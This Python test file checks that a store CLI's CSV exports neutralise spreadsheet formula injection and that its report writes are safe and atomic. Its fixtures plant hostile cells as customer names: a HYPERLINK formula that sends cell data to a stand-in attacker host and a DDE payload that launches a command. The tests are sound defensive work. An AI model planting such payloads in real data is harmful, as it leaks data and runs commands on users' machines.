"""What the CLI hands to spreadsheets and files (issue 10, items 3 and 5).

* One CSV writer: UTF-8 with a byte-order mark, and no formula from the store — a customer
  named ``=HYPERLINK(…)`` reaches every CSV (``rfm --export``, ``campaign export``,
  ``loyalty expiring``) as text, while our own numbers (a negative balance) stay numbers and
  phone numbers stay dialable.
* ``report --output`` and ``rfm --export``: a clear exit 2 for a missing folder, a folder or
  a symbolic link at the target; an atomic write, so a full disk leaves the old file intact
  and no half file.
"""

from __future__ import annotations

import copy
import csv
import errno
import io
import json
import os
import stat
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from sqlalchemy import Engine, update

from app import load_config, save_config
from cli import _files
from cli._csv import BOM, csv_text, safe_cell
from cli.main import run
from connector._schema import customers
from loyalty import grant, reconcile
from loyalty.campaigns import CampaignSpec, create_campaign, run_campaign
from tests._helpers import write_config
from tests._loyalty import Mirror, day

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"
PHONE = "+98 912 123 4567"


def test_cells_that_could_be_formulas_become_text() -> None:
    assert safe_cell(HYPERLINK) == "'" + HYPERLINK
    for bad in ("@SUM(A1)", "+A1", DDE, "\t=1", "\r=1", "=1+1", "-", "+cmd|x"):
        assert safe_cell(bad) == "'" + bad, bad
    # our own numbers are numbers; text that is only a number or a phone number is harmless
    assert [safe_cell(v) for v in (-120, Decimal("-3.50"), -0.25, None)] == [
        "-120", "-3.50", "-0.25", ""
    ]  # fmt: skip
    for fine in ("-120", "-3.50", PHONE, "+1 (555) 010-0100", "Sara", "سارا", "a=b", " =x"):
        assert safe_cell(fine) == fine, fine


def test_the_file_is_utf8_with_a_bom_and_crlf() -> None:
    text = csv_text(["name", "points"], [["سارا", 5], [HYPERLINK, -120]])
    assert text.startswith(BOM) and text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows == [["name", "points"], ["سارا", "5"], ["'" + HYPERLINK, "-120"]]


# --- the commands ------------------------------------------------------------------------------


class Store:
    store = "shop"

    def __init__(self) -> None:
        self.coupons: dict[str, dict[str, Any]] = {}

    def get(self, path: str, params: Any = None) -> Any:
        found = self.coupons.get(str(params["code"]))
        return [copy.deepcopy(found)] if found else []

    def post(self, path: str, json: Any) -> Any:
        self.coupons[json["code"]] = {**json, "id": len(self.coupons) + 1}
        return copy.deepcopy(self.coupons[json["code"]])


@pytest.fixture
def shop(tmp_path: Path, db_url: str, engine: Engine) -> tuple[Path, Mirror]:
    fake = SimpleNamespace(url="http://127.0.0.1:9", consumer_key="ck_x", consumer_secret="cs_x")
    path = write_config(tmp_path / "config.toml", db_url, shop=fake)
    cfg = load_config(path)
    cfg.stores["shop"].loyalty = {"starts_at": "2000-01-01", "expiry_months": 2}
    save_config(path, cfg)
    m = Mirror(engine)
    people = [(HYPERLINK, "@SUM(A1)", PHONE), (DDE, "Ok", "=1+1"), ("سارا", "رضایی", "-120")]
    for wc_id, (first, last, phone) in enumerate(people, 1):
        m.customer(wc_id, f"c{wc_id}@example.com", day(0))
        with engine.begin() as conn:
            conn.execute(
                update(customers)
                .where(customers.c.wc_id == wc_id)
                .values(first_name=first, last_name=last, phone=phone)
            )
        m.order(wc_id, created=day(1), customer=wc_id, total="100.00")
    program = m.program(day(2), expiry_months=2)
    reconcile(engine, program, day(2))
    grant(engine, program, "customer:2", -500, "a correction", day(3))  # balance now negative
    return path, m


def cli(config: Path, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = run(["--config", str(config), *args])
    out, err = capsys.readouterr()
    return code, out, err


def rows_of(text: str) -> list[dict[str, str]]:
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))


def test_rfm_export_neutralises_names_and_keeps_numbers(
    shop: tuple[Path, Mirror], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config, _ = shop
    code, out, err = cli(config, capsys, "rfm", "--as-of", "2025-02-01", "--format", "json")
    assert code == 0, err
    segments = [s["segment"] for s in json.loads(out)["segments"] if s["customers"]]
    found: dict[str, dict[str, str]] = {}
    for i, segment in enumerate(segments):
        target = tmp_path / f"segment{i}.csv"
        args = ("rfm", "--as-of", "2025-02-01", "--segment", segment, "--export", str(target))
        code, _, err = cli(config, capsys, *args)
        assert code == 0, err
        assert stat.S_IMODE(target.stat().st_mode) == 0o600  # e-mails and phones inside
        found |= {r["email"]: r for r in rows_of(target.read_text(encoding="utf-8"))}
    assert found["c1@example.com"]["first_name"] == "'" + HYPERLINK
    assert found["c1@example.com"]["last_name"] == "'@SUM(A1)"
    assert found["c1@example.com"]["phone"] == PHONE
    assert found["c2@example.com"]["first_name"] == "'" + DDE
    assert found["c2@example.com"]["phone"] == "'=1+1"
    assert int(found["c2@example.com"]["loyalty_balance"]) < 0  # a number, not "'-…"
    assert found["c3@example.com"]["first_name"] == "سارا"


def test_expiring_csv_neutralises_names(
    shop: tuple[Path, Mirror], capsys: pytest.CaptureFixture[str]
) -> None:
    config, _ = shop
    args = ("loyalty", "--now", day(40).isoformat(), "expiring", "--within", "60d")
    code, out, err = cli(config, capsys, *args, "--format", "csv")
    assert code == 0, err
    by_email = {r["email"]: r for r in rows_of(out)}
    assert by_email["c1@example.com"]["name"].startswith("'=HYPERLINK")
    assert by_email["c3@example.com"]["name"] == "سارا رضایی"


def test_campaign_export_neutralises_name_phone_and_message(
    shop: tuple[Path, Mirror], engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    config, m = shop
    spec = CampaignSpec("w", "inactive:90d", "fixed_cart", Decimal("5"))
    create_campaign(engine, m.store_id, spec, day(200))
    assert run_campaign(engine, Store(), m.store_id, "w", day(200)).issued == 3
    code, out, err = cli(config, capsys, "campaign", "export", "w", "--message", "{first_name}!")
    assert code == 0, err
    by_email = {r["email"]: r for r in rows_of(out)}
    c1, c2 = by_email["c1@example.com"], by_email["c2@example.com"]
    assert c1["first_name"] == "'" + HYPERLINK and c1["message"] == f"'{HYPERLINK}!"
    assert c1["phone"] == PHONE and c2["phone"] == "'=1+1"
    code, out, err = cli(config, capsys, "campaign", "export", "w", "--template", "fa")
    assert code == 0, err
    assert by_email["c3@example.com"]["first_name"] == "سارا"
    assert "سارا عزیز" in rows_of(out)[2]["message"]


# --- writing files -----------------------------------------------------------------------------


def test_report_path_mistakes_are_clear_and_exit_2(
    shop: tuple[Path, Mirror], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config, _ = shop
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (tmp_path / "link.html").symlink_to(victim)
    cases = {
        tmp_path / "missing" / "report.html": "does not exist",
        tmp_path: "is a folder",
        tmp_path / "link.html": "symbolic link",
        victim / "report.html": "is not a folder",
    }
    for target, said in cases.items():
        for command in (("report", "-o"), ("rfm", "--segment", "new", "--export")):
            code, out, err = cli(config, capsys, *command, str(target))
            assert code == 2, (command, target, out, err)
            assert said in err and "Traceback" not in err
    assert victim.read_text() == "keep me"
    assert not (tmp_path / "missing").exists()


def test_a_full_disk_leaves_the_old_report_and_no_half_file(
    shop: tuple[Path, Mirror],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    config, _ = shop
    target = tmp_path / "out" / "report.html"
    target.parent.mkdir()
    code, out, err = cli(config, capsys, "report", "-o", str(target), "--format", "json")
    assert code == 0, err
    written = json.loads(out)
    assert written["output"] == str(target) and written["bytes"] == target.stat().st_size
    before = target.read_bytes()
    assert before.startswith(b"<!doctype html>")

    def half_then_full(fd: int, data: bytes) -> None:
        os.write(fd, data[: len(data) // 2])
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(_files, "_write_all", half_then_full)
    code, out, err = cli(config, capsys, "report", "-o", str(target))
    assert code == 1
    assert "disk is full" in err and "Traceback" not in err
    assert target.read_bytes() == before
    assert sorted(p.name for p in target.parent.iterdir()) == ["report.html"]
